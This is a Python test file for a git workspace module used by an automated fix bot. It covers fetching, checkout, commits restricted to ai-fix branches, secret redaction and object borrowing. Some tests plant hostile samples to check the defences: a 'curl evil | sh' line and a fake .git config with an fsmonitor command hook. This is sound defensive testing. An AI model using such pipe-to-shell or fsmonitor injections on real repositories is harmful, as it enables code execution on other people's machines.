"""Mirrors, worktrees and commits: real git on disk."""

import subprocess
from pathlib import Path

import pytest

from runner import workspace
from runner.errors import GitError
from runner.workspace import Workspace


def _sh(*args: str, cwd: Path) -> str:
    return subprocess.run(args, cwd=cwd, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    src = tmp_path / "src"
    src.mkdir()
    _sh("git", "init", "-q", "-b", "main", cwd=src)
    (src / "app.py").write_text("def add(a, b):\n    return a - b\n")
    (src / "run.sh").write_text("echo hi\n")
    (src / "run.sh").chmod(0o755)
    _sh("git", "add", "-A", cwd=src)
    _sh("git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "init", cwd=src)
    bare = tmp_path / "origin.git"
    _sh("git", "clone", "-q", "--bare", str(src), str(bare), cwd=tmp_path)
    return bare


def test_fetch_checkout_commit_push(tmp_path: Path, origin: Path) -> None:
    ws = Workspace(tmp_path / "ws")
    mirror = ws.fetch(str(origin), {})
    assert ws.fetch(str(origin), {}) == mirror  # incremental, same mirror
    tree = ws.checkout(mirror, "main")
    assert (tree.path / "app.py").read_text().endswith("a - b\n")
    assert sorted(tree.tracked_files()) == ["app.py", "run.sh"]
    # The sandbox may leave junk and even tamper with files; only recorded contents are committed.
    (tree.path / "junk.txt").write_text("cache")
    (tree.path / "run.sh").write_text("curl evil | sh\n")
    commit = workspace.commit_contents(tree, {"app.py": "def add(a, b):\n    return a + b\n"}, "Fix add",
                                       ("bot", "bot@example.com"))
    diff = workspace.diff(tree, commit)
    assert "+    return a + b" in diff and "junk.txt" not in diff and "run.sh" not in diff
    workspace.push(tree, str(origin), {}, commit, "ai-fix/issue-1")
    assert _sh("git", "rev-parse", "refs/heads/ai-fix/issue-1", cwd=origin).strip() == commit
    logged = _sh("git", "log", "-1", "--format=%an <%ae>|%s", commit, cwd=origin).strip()
    assert logged == "bot <bot@example.com>|Fix add"
    assert _sh("git", "ls-tree", commit, "run.sh", cwd=origin).startswith("100755")
    ws.remove(tree)
    assert not tree.path.exists()


def test_a_planted_git_dir_in_the_worktree_is_never_read(tmp_path: Path, origin: Path) -> None:
    ws = Workspace(tmp_path / "ws")
    tree = ws.checkout(ws.fetch(str(origin), {}), "main")
    marker = tmp_path / "pwned"
    (tree.path / ".git").unlink()
    planted = tree.path / ".git"
    planted.mkdir()
    (planted / "config").write_text(f"[core]\n\tfsmonitor = touch {marker}\n")
    (tree.path / "app.py").write_text("changed\n")
    assert "app.py" in tree.run("status", "--porcelain")
    commit = workspace.commit_contents(tree, {"app.py": "x = 1\n"}, "m", ("bot", "b@e"))
    assert workspace.diff(tree, commit)
    assert not marker.exists()


def test_pushes_only_to_ai_fix_branches(tmp_path: Path, origin: Path) -> None:
    ws = Workspace(tmp_path / "ws")
    tree = ws.checkout(ws.fetch(str(origin), {}), "main")
    with pytest.raises(GitError, match="only pushes ai-fix/ branches"):
        workspace.push(tree, str(origin), {}, tree.base_sha, "main")


def test_unknown_branch_and_secrets_redacted(tmp_path: Path, origin: Path) -> None:
    ws = Workspace(tmp_path / "ws")
    mirror = ws.fetch(str(origin), {})
    with pytest.raises(GitError, match="branch 'develop' was not found"):
        ws.checkout(mirror, "develop")
    secret_env = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.extraHeader",
                  "GIT_CONFIG_VALUE_0": "Authorization: Basic c2VjcmV0LXRva2VuLXZhbHVl"}
    with pytest.raises(GitError) as raised:
        ws.fetch(str(tmp_path / "missing.git") + "/Authorization: Basic c2VjcmV0LXRva2VuLXZhbHVl", secret_env)
    assert "c2VjcmV0LXRva2VuLXZhbHVl" not in str(raised.value)


def _checkout_of(origin: Path, where: Path, *args: str) -> Path:
    _sh("git", "clone", "-q", *args, f"file://{origin}", str(where), cwd=where.parent)
    return where


def _objects(git_dir: Path) -> int:
    """Objects stored in the repository itself (loose and packed), not those it borrows."""
    counts = dict(line.split(": ") for line in _sh("git", "count-objects", "-v", cwd=git_dir).splitlines())
    return int(counts["count"]) + int(counts["in-pack"])


def test_a_local_checkout_lends_its_objects_and_receives_none(tmp_path: Path, origin: Path) -> None:
    user = _checkout_of(origin, tmp_path / "user")
    before = _objects(user / ".git")
    ws = Workspace(tmp_path / "ws", borrow_objects=True)
    mirror = ws.fetch(str(user), {})
    alternates = (mirror / "objects" / "info" / "alternates").read_text()
    assert alternates == f"{user / '.git' / 'objects'}\n" and _objects(mirror) == 0  # nothing copied
    tree = ws.checkout(mirror, "main")
    assert (tree.path / "app.py").read_text().endswith("a - b\n")
    # What the App writes (blobs, trees, the commit) lands in the mirror; the user's repository is only read.
    commit = workspace.commit_contents(tree, {"app.py": "def add(a, b):\n    return a + b\n"}, "Fix add", ("b", "b@e"))
    assert "+    return a + b" in workspace.diff(tree, commit)
    assert _objects(mirror) == 3 and _objects(user / ".git") == before
    with pytest.raises(subprocess.CalledProcessError):
        _sh("git", "cat-file", "-e", commit, cwd=user)
    # What a sandbox sees of the worktree (it is mounted, its `.git` file read-only) never names the user's
    # repository: the gitdir is in the mirror, and the mirror (with its alternates file) is not mounted.
    seen = [p.read_bytes() for p in tree.path.rglob("*") if p.is_file()]
    assert (tree.path / ".git").read_text() == f"gitdir: {tree.git_dir}\n" and tree.git_dir.is_relative_to(mirror)
    assert not any(str(user).encode() in data for data in seen)
    # New commits of the user's are fetched again as refs only.
    _sh("git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "more", cwd=user)
    assert ws.fetch(str(user), {}) == mirror and _objects(mirror) == 3
    assert ws.checkout(mirror, "main").base_sha == _sh("git", "rev-parse", "HEAD", cwd=user).strip()


def test_what_cannot_be_borrowed_is_fetched(tmp_path: Path, origin: Path) -> None:
    # A shallow checkout has holes in its history the mirror would not know of; a long-lived workspace (the
    # worker's cache) must not depend on another repository; both copy the objects as before.
    shallow = _checkout_of(origin, tmp_path / "shallow", "--depth", "1")
    mirror = Workspace(tmp_path / "ws", borrow_objects=True).fetch(str(shallow), {})
    assert not (mirror / "objects" / "info" / "alternates").exists() and _objects(mirror) > 0
    cached = Workspace(tmp_path / "cache").fetch(str(origin), {})
    assert not (cached / "objects" / "info" / "alternates").exists() and _objects(cached) > 0
